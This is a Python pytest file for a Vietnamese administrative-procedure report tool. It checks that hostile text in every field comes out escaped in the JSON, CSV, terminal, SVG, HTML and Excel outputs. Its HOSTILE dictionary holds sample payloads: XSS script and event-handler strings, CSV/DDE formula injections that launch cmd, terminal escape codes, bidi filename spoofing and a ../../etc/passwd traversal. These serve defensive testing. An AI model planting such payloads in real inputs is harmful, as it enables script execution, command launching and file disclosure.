"""Hostile text in every field comes out harmless in every format."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from tests.report import samples
from tests.report.workbooks import FINDINGS, LOST, decide, make, table
from tthc.collection.profile import profile
from tthc.collection.statistics import statistics
from tthc.cuts.analyse import Wanted, analyse
from tthc.model import SECTIONS, Analysis, Problem, Procedure, Record, Severity
from tthc.model.shown import as_html
from tthc.report import write_report
from tthc.report.drawing.svg import draw_svg
from tthc.report.frames import frames
from tthc.report.notebook import ProcedureGraph
from tthc.report.objects import graph_object, procedure_object, to_json
from tthc.report.problems import problem_line
from tthc.report.shown_text import clean, one_line, plain_lines
from tthc.report.statistics.tables import View, count_rows
from tthc.report.statistics.workbook import write_statistics_workbook
from tthc.report.tables import rows, write_rows
from tthc.report.terminal.suggestions import console_like, print_procedure, print_suggestions
from tthc.report.workbook.decisions import Carried
from tthc.report.workbook.decisions_told import carried_lines
from tthc.report.workbook.writer import WORKBOOK
from tthc.sources.record import make_record

HOSTILE = {
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)><!--",
    "attribute": "\"' onmouseover=alert(1) x='><svg/onload=alert(1)>",
    "link": "javascript:alert(1)",
    "cdata": "]]></text><script>alert(1)</script><![CDATA[",
    "entity": "&lt;b&gt; &#x3c;script&#x3e; &unknown;",
    "template": "{{ 7*7 }}{% raw %}{0}{name}%s%(x)s${x}",
    "formula": "=HYPERLINK(\"http://vi.du/?\"&A1,\"xem\")",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+1|x",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "wide": "＝1+1",
    "excel escape": "_x0041__x000D_=1",
    "long": "Đất" * 3_400,
    "long word": "x" * 10_000,
    "reversed": "\u202egnp.exe \u2067abc\u2066def",
    "marks": "\u200f\u061c\u200e" * 30 + "a",
    "nul": "a\x00b\x08\x0b\x1f\x7f",
    "terminal": "\x1b[31mđỏ\x1b]0;tên\x07\x9b2J",
    "markup": "[bold red]x[/] [link=http://vi.du]y[/link] :bomb:",
    "lines": "một\u2028hai\u2029ba\x85bốn\r\nnăm",
    "surrogate": "a\ud800b\udfffc",
    "nothing": "\ufffe\uffff\ufeff",
    "combining": "a" + "\u0301" * 500,
    "path": "..\\..\\../../etc/passwd",
}  # fmt: skip
_ODD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
_TURNING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_CODES = {
    "section", "kind", "action", "actor_class", "channel", "unit", "rule", "confidence", "status",
    "operation", "target", "element", "level", "scope", "form", "role", "step", "basis", "name_of_lever",
}  # fmt: skip


def with_text(thing: Any, evil: str) -> Any:
    """The same object with the text in every field that holds free text."""
    if isinstance(thing, tuple):
        return tuple(with_text(item, evil) for item in thing)
    if not attrs.has(type(thing)):
        return thing
    changed = {}
    for field in attrs.fields(type(thing)):
        value = getattr(thing, field.name)
        lever = type(thing).__name__ == "Lever" and field.name == "name"
        if isinstance(value, str) and field.name not in _CODES and not lever:
            changed[field.name] = evil
        elif isinstance(value, tuple) or attrs.has(type(value)):
            changed[field.name] = with_text(value, evil)
    return attrs.evolve(thing, **changed)


def built(evil: str) -> Analysis:
    """An analysis made by hand in which every field holds the text, sections at their beginning."""
    plain = samples.analysis()
    made = with_text(plain, evil)
    sections = {name: f"{evil}{text}" for name, text in plain.procedure.sections.items()}
    sections |= {name: evil for name in SECTIONS if name not in sections}
    return attrs.evolve(made, procedure=attrs.evolve(made.procedure, sections=sections, flags=(evil,)))


def record(evil: str) -> Record:
    """A record as a source would give it, the text in every field and before every sentence."""
    sections = dict.fromkeys(SECTIONS, evil)
    sections |= {
        "trinh_tu_thuc_hien": f"Bước 1: Người dân nộp hồ sơ {evil}\n{evil}\nBước 2: Sở Xây dựng thẩm định "
        f"trong 05 ngày làm việc {evil} và trả kết quả.\n{evil}",
        "thanh_phan_ho_so": f"{evil}\n- Đơn đề nghị {evil}\n- Bản sao chứng thực Giấy phép {evil}\n"
        "- Giấy tờ khác có liên quan\n- Giấy tờ khác có liên quan",
        "cach_thuc_thuc_hien": f"Trực tiếp: 10 ngày làm việc {evil}\nTrực tuyến: 5 ngày làm việc {evil}",
    }
    names = ("code", "name", "field", "decision_number", "level_text", "procedure_type")
    made, _ = make_record(evil, "corpus", dict.fromkeys(names, evil), sections)
    return made


def analyses(evil: str) -> list[Analysis]:
    read = analyse(record(evil), Wanted(date(2026, 7, 1), "vi"))
    assert read is not None
    return [built(evil), read]


@pytest.fixture(params=sorted(HOSTILE))
def evil(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


class _Tags(HTMLParser):
    """What a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attributes)))


def assert_harmless_markup(text: str, scripts: int) -> None:
    parser = _Tags()
    parser.feed(text)
    assert sum(tag == "script" for tag, _ in parser.tags) == scripts
    assert not {"img", "iframe", "object", "embed", "base"} & {tag for tag, _ in parser.tags}
    for _, attributes in parser.tags:
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert not re.match(r"\s*(javascript|data|vbscript):", value or "", re.IGNORECASE)
    assert not _TURNING.search(text)
    assert not _ODD.search(text.replace("\t", "").replace("\r", "").replace("\x85", ""))


def test_json_lines_give_the_text_back_and_stay_one_line(evil: str) -> None:
    for analysis in analyses(evil):
        lines = [to_json(procedure_object(analysis.procedure))]
        lines.append(to_json(graph_object(analysis.procedure, analysis.graph)))
        lines += [row.text for row in rows(analysis, "jsonl")]
        for line in lines:
            assert line.splitlines() == [line]
            assert not _ODD.search(line)
            assert not _TURNING.search(line)
            line.encode("utf-8")
        back = json.loads(lines[0])
        assert back["name"] == analysis.procedure.name
        assert back["sections"] == dict(analysis.procedure.sections)


def test_csv_holds_no_formula_and_nothing_that_steers_a_terminal(evil: str) -> None:
    for analysis in analyses(evil):
        stream = io.StringIO()
        write_rows(rows(analysis, "csv"), "csv", stream)
        stream.getvalue().encode("utf-8")
        head, *lines = csv.reader(io.StringIO(stream.getvalue(), newline=""))
        assert len(lines) == len(analysis.findings)
        for line in lines:
            assert len(line) == len(head)
            for cell in line:
                number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
                assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
                assert not _ODD.search(re.sub(r"[\t\r\x85]", "", cell))


def test_the_prompt_prints_no_control_of_theirs(evil: str) -> None:
    for analysis in analyses(evil):
        for coloured in (False, True):
            stream = io.StringIO()
            console = console_like(100, coloured, stream)
            print_procedure(console, analysis, "vi", as_of=samples.AS_OF)
            print_suggestions(console, analysis, "vi", as_of=samples.AS_OF, show_all=True)
            text = re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue()) if coloured else stream.getvalue()
            text.encode("utf-8")
            assert not _ODD.search(text)
            assert not _TURNING.search(text)
            assert len(text.splitlines()) == text.count("\n")


def test_problems_and_lost_decisions_are_told_in_one_line_each(evil: str) -> None:
    problem = Problem(Severity.WARNING, evil, "{x}", "{x}", record=evil, place=evil, values={"x": evil})
    assert_one_line(problem_line(problem, "vi"))
    from tthc.report.workbook.decisions import Decision, Identity

    lost = Decision(Identity("a", "b", evil, evil), evil, evil, evil, evil, evil, evil, evil, evil, evil)
    for line in carried_lines(Carried({}, (lost,)), "vi"):
        assert_one_line(line)


def assert_one_line(line: str) -> None:
    assert line.splitlines() == [line]
    assert not _ODD.search(line)
    assert not _TURNING.search(line)
    line.encode("utf-8")


def test_the_drawing_is_sound_and_holds_no_script(evil: str) -> None:
    for analysis in analyses(evil):
        if not analysis.procedure.activities:
            continue
        svg = draw_svg(analysis.procedure, analysis.graph, "vi", analysis.findings)
        for element in ET.fromstring(svg).iter():
            assert not element.tag.endswith(("script", "foreignObject", "image"))
            for name, value in element.attrib.items():
                assert not name.startswith("on")
                assert not name.endswith("href") or value.startswith("#")
        assert_harmless_markup(svg, scripts=0)


def test_the_site_and_its_data_hold_no_script_of_theirs(evil: str, tmp_path: Path) -> None:
    folder = tmp_path / "r"
    write_report(analyses(evil), folder, as_of=samples.AS_OF, generated_from=evil)
    pages = sorted(folder.rglob("*.html"))
    assert len(pages) == 3
    plain = tmp_path / "plain"
    write_report([samples.analysis()], plain, as_of=samples.AS_OF)
    scripts = {p.parent.name == "procedures": _scripts(p) for p in sorted(plain.rglob("*.html"))}
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert_harmless_markup(text, scripts[page.parent.name == "procedures"])
    for script in folder.rglob("*.js"):
        text = script.read_text(encoding="utf-8")
        assert "</script" not in text
        assert "<!--" not in text
        assert not _TURNING.search(text)
        assert not re.search("[\x00\u2028\u2029\ud800-\udfff]", text)
    assert all(re.fullmatch(r"[\w.-]+", path.name, re.ASCII) for path in folder.rglob("*"))


def _scripts(path: Path) -> int:
    parser = _Tags()
    parser.feed(path.read_text(encoding="utf-8"))
    return sum(tag == "script" for tag, _ in parser.tags)


def theirs(path: Path) -> Iterator[Any]:
    """Cells that are not formulas of ours."""
    book = openpyxl.load_workbook(path)
    for page in book.worksheets:
        for row in page.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


_OURS = re.compile(
    r"=(IF\(|COUNTIFS\((vd|tt)_|SUMIFS\((vd|tt)_|SUM\((tt_counted|[B-G]\d+:[B-G]\d+)\)|SUBTOTAL\(10[39],vd_)"
)


def test_the_workbook_holds_no_formula_and_no_link_of_theirs(evil: str, tmp_path: Path) -> None:
    folder = tmp_path / "r"
    write_report(analyses(evil), folder, as_of=samples.AS_OF, generated_from=evil)
    for cell in theirs(folder / WORKBOOK):
        if cell.data_type == "f":
            assert _OURS.match(cell.value), cell.value
            assert evil[:20] not in cell.value
        if cell.hyperlink and cell.hyperlink.target:
            assert re.fullmatch(r"(procedures\\)?[\w.-]+\.html", cell.hyperlink.target, re.ASCII)
        if isinstance(cell.value, str):
            assert not _TURNING.search(cell.value)
            assert not _ODD.search(re.sub(r"[\t\r\x85]", "", cell.value))
    names = [row["Thủ tục"] for row in table(folder / WORKBOOK, "Thủ tục")]
    shown = plain_lines(clean(evil))[:1000].strip()
    assert shown in {unescape(name or "")[:1000].strip() for name in names}


def test_what_somebody_types_as_a_decision_comes_out_harmless(evil: str, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    make(path)
    typed = unescape(plain_lines(clean(evil))).strip() or "?"
    decide(path, {2: {"Quyết định": typed, "Lý do": typed}})
    carried = make(path)
    make(path, samples.analysis(findings=()))
    for cell in theirs(path):
        assert cell.data_type != "f" or _OURS.match(cell.value)
    assert len(carried.by_finding) == 1
    assert table(path, LOST)[0]["Lý do"].split() == typed.split()
    assert table(path, FINDINGS) == []


def test_statistics_are_harmless_too(evil: str, tmp_path: Path) -> None:
    found = statistics(profile(analysis.procedure) for analysis in analyses(evil))
    view = View(samples.AS_OF, "vi", ("field", "level", "body"))
    write_statistics_workbook(found, tmp_path / "s.xlsx", view)
    assert all(cell.data_type != "f" for cell in theirs(tmp_path / "s.xlsx"))
    assert count_rows(found, "field", view)


def test_frames_give_the_text_as_it_is(evil: str) -> None:
    made = frames([built(evil)])
    assert made.procedures["name"].tolist() == [evil]


def test_the_notebook_shows_it_escaped(evil: str) -> None:
    for analysis in analyses(evil):
        graph = ProcedureGraph(analysis.procedure, analysis.graph, analysis.findings)._repr_svg_()
        for thing in (analysis, analysis.procedure, analysis.plan, *analysis.findings):
            html = as_html(thing)
            assert html
            assert_harmless_markup(html, scripts=0)
        assert_harmless_markup(graph or "", scripts=0)


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(), max_size=80))
def test_no_text_at_all_gets_out_of_its_line_or_cell(text: str) -> None:
    procedure: Procedure = samples.procedure(name=text, field=text)
    line = to_json(procedure_object(procedure))
    assert line.splitlines() == [line]
    assert json.loads(line)["name"] == text
    line.encode("utf-8")
    assert_one_line(one_line(text) or "-")
    assert not _TURNING.search(clean(text))
    clean(text).encode("utf-8")
    stream = io.StringIO()
    found = tuple(attrs.evolve(f, message=text, text=text) for f in samples.findings())
    write_rows(rows(samples.analysis(findings=found), "csv"), "csv", stream)
    cells = [cell for row in csv.reader(io.StringIO(stream.getvalue(), newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r", "\n"))]
